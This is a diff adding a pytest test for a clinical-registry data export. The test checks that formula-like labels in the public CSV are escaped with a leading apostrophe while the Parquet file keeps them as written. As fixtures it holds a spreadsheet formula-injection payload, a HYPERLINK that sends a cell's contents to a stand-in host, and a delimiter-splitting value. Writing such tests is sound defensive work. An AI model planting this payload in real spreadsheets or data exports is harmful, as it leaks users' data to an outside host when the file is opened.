@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
 from pathlib import Path
 from typing import Any
 
+import duckdb
 import pandas as pd
 import pytest
 from marts_fixture import MartsWarehouse, built_warehouse
@@ -251,3 +254,38 @@ def test_rtw_export_public_writes_the_tables_and_says_what_it_withheld(synthetic
         f"{t.name}.{ext}" for t in PUBLIC_TABLES for ext in ("csv", "parquet"))
     activity = pd.read_csv(tmp_path / "public" / "registry_activity.csv", keep_default_na=False)
     assert "other" in set(activity.centre_id) and "FR" in set(activity.country)
+
+
+def test_a_shared_label_that_a_spreadsheet_would_run_is_published_as_text_in_the_csv(public, tmp_path):
+    """A label a centre wrote reaches the public CSV when five persons share it, and whoever opens the
+    CSV runs it if it is a formula (LibreOffice 7.4 made the regimen below a live link): the CSV makes
+    it text with a leading ', the Parquet keeps it as written."""
+    built, _ = public
+    warehouse = tmp_path / "warehouse.duckdb"
+    shutil.copy2(built.warehouse, warehouse)
+    regimen = '=HYPERLINK("http://x.test/?"&A1,"regimen")'
+    con = duckdb.connect(str(warehouse))
+    try:  # the most shared regimen renamed: every one of its rows keeps its label
+        (shared,) = con.execute("SELECT regimen FROM marts.response GROUP BY regimen "
+                                "ORDER BY max(n_assessed) DESC LIMIT 1").fetchone()
+        con.execute("UPDATE marts.response SET regimen = ? WHERE regimen = ?", [regimen, shared])
+        con.execute("UPDATE marts.response SET regimen = 'x;-2+3;y' WHERE regimen <> ? AND regimen <> 'all'",
+                    [regimen])
+    finally:
+        con.close()
+    export_public(warehouse, tmp_path / "public", min_cell=MIN_CELL)
+    text = (tmp_path / "public" / "response.csv").read_text()
+    for delimiter in (",", ";"):  # as a spreadsheet splits it in each locale
+        cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _is_number(c)], delimiter
+    published = pd.read_csv(tmp_path / "public" / "response.csv", keep_default_na=False)
+    assert "'" + regimen in set(published.regimen)
+    assert regimen in set(pd.read_parquet(tmp_path / "public" / "response.parquet").regimen)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
